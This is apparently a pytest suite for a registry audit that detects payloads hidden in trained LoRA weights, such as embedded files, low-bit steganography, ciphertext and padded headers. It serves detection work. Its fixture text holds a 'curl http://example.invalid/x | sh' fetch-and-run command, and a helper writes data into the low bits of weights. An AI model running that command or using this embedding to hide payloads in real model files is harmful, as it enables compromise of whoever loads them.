"""Payloads planted among really trained weights: found where they can be, and honest where not."""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import struct
import zipfile

import pytest

torch = pytest.importorskip("torch")

from pathlib import Path  # noqa: E402

from registry.audits.weights.hidden_payload import (  # noqa: E402 - needs torch
    HiddenPayloadAudit,
)
from registry.audits.weights.signatures import find_signature, is_text  # noqa: E402
from registry.formats.findings import Verdict  # noqa: E402
from tests.audits.trained import tensors  # noqa: E402

VICTIM = "lora_unet_down_blocks_4_attentions_0_to_q.lora_up.weight"
ROOT = Path(__file__).resolve().parents[2]
WIDTHS = {"F64": 8, "F32": 4, "F16": 2, "BF16": 2}
TEXT = (
    b"import os; os.system('curl http://example.invalid/x | sh')  # and the rest of a message "
    b"that someone would rather send this way than say aloud, because nobody looks here"
)


def _zip(content=TEXT):
    sink = io.BytesIO()
    with zipfile.ZipFile(sink, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.txt", content)
    return sink.getvalue()


def _cipher(size, seed=b"k"):
    return hashlib.shake_256(seed).digest(size)


FILES = {
    "zip": _zip(),
    "elf": b"\x7fELF\x02\x01\x01" + bytes(9) + _cipher(200),
    "png": b"\x89PNG\r\n\x1a\n" + _cipher(200),
    "age": b"age-encryption.org/v1\n-> X25519 abc\n" + _cipher(200),
    "gzip": gzip.compress(TEXT, mtime=0),
    "pickle": b"\x80\x04\x95" + struct.pack("<Q", 120) + _cipher(120),
    "text": TEXT,
}


def _run(subject):
    return HiddenPayloadAudit().run(subject)


def _words(report):
    return " | ".join(finding.message for finding in report.findings)


def _overwrite(found, at, data, name=VICTIM):
    dtype, shape, content = found[name]
    found[name] = (dtype, shape, content[:at] + data + content[at + len(data) :])
    return found


def _bits(data, *, from_top):
    order = range(7, -1, -1) if from_top else range(8)
    return [byte >> bit & 1 for byte in data for bit in order]


def _hide(found, data, *, depth=1, from_top=True, at=0, name=VICTIM):
    """Write the bits of `data` into the lowest `depth` bits of the values from `at` on."""
    dtype, shape, content = found[name]
    width = WIDTHS[dtype]
    values = [
        int.from_bytes(content[i : i + width], "little") for i in range(0, len(content), width)
    ]
    bits = _bits(data, from_top=from_top)
    for step in range(0, len(bits), depth):
        part = bits[step : step + depth]
        low = sum(bit << (len(part) - 1 - i if from_top else i) for i, bit in enumerate(part))
        place = at + step // depth
        values[place] = values[place] >> depth << depth | low
    found[name] = (dtype, shape, b"".join(value.to_bytes(width, "little") for value in values))
    return found


@pytest.mark.parametrize("kind", FILES)
@pytest.mark.parametrize("dtype", WIDTHS)
def test_a_file_in_place_of_the_first_values_is_found(subject_of, kind, dtype):
    report = _run(subject_of(_overwrite(tensors(dtype), 0, FILES[kind])))
    assert report.verdict is Verdict.REVIEW
    assert report.findings[0].place == VICTIM


@pytest.mark.parametrize("dtype", WIDTHS)
@pytest.mark.parametrize("content", [TEXT * 12, _zip(_cipher(1500)), _cipher(1800)])
def test_bytes_in_the_middle_of_a_tensor_are_found(subject_of, dtype, content):
    report = _run(subject_of(_overwrite(tensors(dtype), 601, content)))
    assert report.verdict is Verdict.REVIEW
    assert report.findings[0].place == VICTIM
    assert "holds" in _words(report)


def test_a_whole_tensor_of_ciphertext_is_found(subject_of):
    found = tensors("BF16")
    dtype, shape, content = found[VICTIM]
    found[VICTIM] = (dtype, shape, _cipher(len(content)))
    report = _run(subject_of(found))
    assert "encrypted or compressed bytes" in _words(report)


# A byte with its bits reversed is no byte that anybody reads.
@pytest.mark.parametrize(
    ("depth", "from_top"),
    [(1, True), (1, False), (2, True), (2, False), (4, True), (4, False), (8, True)],
)
@pytest.mark.parametrize("kind", FILES)
@pytest.mark.parametrize("dtype", ["F16", "F32"])
def test_a_file_in_the_low_bits_is_found(subject_of, kind, depth, from_top, dtype):
    data = FILES[kind][: 1536 * depth // 8]
    found = _hide(tensors(dtype), data, depth=depth, from_top=from_top)
    report = _run(subject_of(found))
    assert report.verdict is Verdict.REVIEW
    assert report.findings[0].place == VICTIM
    assert f"lowest {depth} bits" in _words(report)


def test_a_bit_in_front_of_the_stream_hides_nothing(subject_of):
    for shift in range(1, 8):
        report = _run(subject_of(_hide(tensors("F16"), FILES["png"][:20], at=shift)))
        assert "PNG" in _words(report)


def test_text_in_single_bits_further_on_is_found(subject_of):
    assert "text" in _words(_run(subject_of(_hide(tensors("F16"), TEXT[:120], at=400))))


@pytest.mark.parametrize(
    ("through", "dtype", "bits"), [("BF16", "F32", 16), ("F16", "F32", 13), ("BF16", "F16", 3)]
)
@pytest.mark.parametrize("at", [0, 512])
def test_ciphertext_in_bits_that_rounding_left_empty_is_found(subject_of, through, dtype, bits, at):
    depth = {16: 16, 13: 8, 3: 2}[bits]
    found = _hide(tensors(dtype, through=through), _cipher(400 * depth // 8), depth=depth, at=at)
    report = _run(subject_of(found))
    assert report.verdict is Verdict.REVIEW
    assert f"the low {bits} bits are in use" in _words(report)


def test_a_whole_tensor_at_full_precision_among_rounded_ones_warns(subject_of):
    found = tensors("F32", through="BF16")
    found[VICTIM] = tensors("F32")[VICTIM]
    report = _run(subject_of(found))
    assert report.verdict is Verdict.WARN
    assert report.findings[0].place == VICTIM


def test_what_cannot_be_seen_passes_and_the_report_says_so(subject_of):
    """Encrypted bits in the lowest bit of half precision are the noise that training leaves."""
    found = tensors("F16")
    for number, name in enumerate(list(found)):
        _hide(found, _cipher(190, bytes([number])), name=name)
    report = _run(subject_of(found))
    assert report.verdict is Verdict.PASS
    assert ("hidden so that it looks like noise", "cannot be seen") in report.metrics
    page = (ROOT / "docs" / "audits" / "hidden_payload.md").read_text("utf-8")
    assert "encrypted bits in the lowest bit" in page.lower()


@pytest.mark.parametrize("through", [None, "BF16", "F16"])
@pytest.mark.parametrize("dtype", ["F16", "BF16", "F32", "F64"])
def test_nothing_is_found_in_trained_weights(subject_of, dtype, through):
    report = _run(subject_of(tensors(dtype, through=through)))
    assert (report.verdict, report.findings) == (Verdict.PASS, ())


@pytest.mark.parametrize("size", [0.1, 0.01, 0.003])
def test_nothing_is_found_in_small_weights_that_half_precision_rounded_again(subject_of, size):
    """Below 6.1e-5 the low bits of F16 are in use whatever was rounded before."""
    from tests.audits.trained import factors, stored

    found = {}
    for number, (down, up) in enumerate(factors()):
        base = f"lora_unet_down_blocks_{number}_attentions_0_to_q"
        factor = 1.0 if number % 4 else size
        found[f"{base}.lora_down.weight"] = stored(down.bfloat16(), "F16")
        found[f"{base}.lora_up.weight"] = stored((up * factor).bfloat16(), "F16")
    assert _run(subject_of(found)).findings == ()


def test_nothing_is_found_in_dead_pruned_or_summed_weights(subject_of):
    from tests.audits.trained import factors, stored

    found = {}
    for number, (down, up) in enumerate(factors()):
        base = f"lora_unet_down_blocks_{number}_attentions_0_to_q"
        kept = torch.where(up.abs() > up.abs().median(), up, 0.0)
        other = factors()[number - 1][1]
        mean = (up.bfloat16().float() + other.bfloat16().float()) / 2
        changed = (kept, mean, torch.zeros_like(up))[number % 3]
        found[f"{base}.lora_up.weight"] = stored(changed, "F16")
        found[f"{base}.lora_down.weight"] = stored(down, "F16")
    assert _run(subject_of(found)).findings == ()


@pytest.mark.parametrize("dtype", ["F16", "BF16", "F32"])
@pytest.mark.parametrize(
    "span", [(1.03, 1.12), (2.5, 3.9), (1.002, 1.007), (0.6, 0.9), (9.0, 31.0)]
)
def test_norms_and_magnitudes_are_no_text(subject_of, dtype, span):
    """Numbers that are all alike have low bits, and even whole bytes, that are printable."""
    from tests.audits.trained import stored

    source = torch.Generator().manual_seed(3)
    low, high = span
    found = tensors(dtype)
    for number in range(6):
        values = low + torch.rand(2048, generator=source) * (high - low)
        found[f"lora_unet_down_blocks_{number}_norm.w_norm"] = stored(values, dtype)
        ramp = torch.linspace(low, high, 2048)
        found[f"lora_unet_down_blocks_{number + 6}_norm.w_norm"] = stored(ramp + number, dtype)
    assert _run(subject_of(found)).findings == ()


def test_a_tensor_that_is_out_of_scale_is_no_file(subject_of):
    found = tensors("F32")
    values = torch.full((1024,), 500.0) + torch.arange(1024) / 7
    found["x.diff_b"] = ("F32", (1024,), values.numpy().tobytes())
    report = _run(subject_of(found))
    assert report.verdict is Verdict.WARN
    assert "beyond any weight" in _words(report)


@pytest.mark.parametrize("prefix", [b"\1", b""])
def test_tensors_at_odd_places_are_looked_at(subject_of, prefix):
    first = {"a.on_input": ("BOOL", (1,), prefix), "a.weight": ("F16", (2,), b"\0<\0<")}
    hidden = _hide(tensors("F16"), FILES["age"][:150])
    report = _run(subject_of({**first, **hidden} if prefix else hidden))
    assert "an age file" in _words(report)


def test_empty_copied_constant_and_unused_tensors_warn(subject_of):
    found = tensors("F32")
    name = "lora_unet_down_blocks_5_attentions_0_to_q.lora_up.weight"
    found[name] = found[VICTIM]
    dtype, shape, _ = found[VICTIM]
    found["lora_unet_down_blocks_6_attentions_0_to_q.lora_up.weight"] = (
        dtype, shape, struct.pack("<f", 0.25) * (shape[0] * shape[1]),
    )  # fmt: skip
    found["a_message_in_a_name"] = ("F32", (0,), b"")
    found["blob"] = ("U8", (100_000,), _cipher(100_000))
    report = _run(subject_of(found))
    assert report.verdict is Verdict.WARN
    for words in ("same content", "one number", "hold nothing", "belong to no module"):
        assert words in _words(report)


def _respaced(tensors_, change):
    from tests.audits.conftest import safetensors_bytes

    whole = safetensors_bytes(tensors_)
    length = int.from_bytes(whole[:8], "little")
    header = change(whole[8 : 8 + length])
    return struct.pack("<Q", len(header)) + header + whole[8 + length :]


@pytest.mark.parametrize(
    ("change", "words"),
    [
        (lambda header: header + b" " * 64, "blanks, writers need"),
        (
            lambda header: header.rstrip().replace(b'","shape"', b'", \t"shape"'),
            "between the words",
        ),
        (lambda header: header.rstrip().replace(b'},"', b'},\n"'), "between the words"),
    ],
)
def test_white_space_that_no_writer_needs_warns(change, words):
    from registry.artifacts.notes import PayloadForm
    from registry.audits.audit import AuditSubject
    from registry.updates.payload import read_payload

    data = memoryview(bytearray(_respaced(tensors("F16"), change)))
    report = _run(AuditSubject(read_payload(data, PayloadForm.RAW, "a.safetensors")))
    assert report.verdict is Verdict.WARN
    assert words in _words(report)


@pytest.mark.parametrize("separators", [(",", ":"), (", ", ": ")])
def test_usual_white_space_passes(separators):
    from registry.artifacts.notes import PayloadForm
    from registry.audits.audit import AuditSubject
    from registry.updates.payload import read_payload

    def change(header):
        return json.dumps(json.loads(header), separators=separators).encode()

    data = memoryview(bytearray(_respaced(tensors("F16"), change)))
    assert _run(AuditSubject(read_payload(data, PayloadForm.RAW, "a"))).verdict is Verdict.PASS


PNG = b"\x89PNG\r\n\x1a\n" + bytes(40) + b"IEND\xaeB`\x82"
CONFIG = json.dumps({"peft_type": "LORA", "r": 16, "lora_alpha": 16}).encode()


@pytest.mark.parametrize(
    ("name", "content", "verdict"),
    [
        ("README_md", b"# a card\n", Verdict.PASS),
        ("README_md", _zip(), Verdict.REVIEW),
        ("image_png", PNG, Verdict.PASS),
        ("image_png", PNG + b"tail", Verdict.WARN),
        ("image_png", PNG + _zip(), Verdict.REVIEW),
        ("tokenizer_json", b'{"a": 1}\n', Verdict.PASS),
        ("tokenizer_json", b'{"a": 1} and more', Verdict.WARN),
        ("tokenizer_json", b'{"a": 1}' + b" \t" * 400, Verdict.WARN),
    ],
)
def test_other_files_of_a_folder(folder_of, name, content, verdict):
    assert _run(folder_of(tensors("F16"), CONFIG, **{name: content})).verdict is verdict


def test_random_bytes_match_no_signature():
    assert find_signature(_cipher(2**21)) is None
    assert not is_text(_cipher(4096))
    assert not is_text(b"A" * 4096)
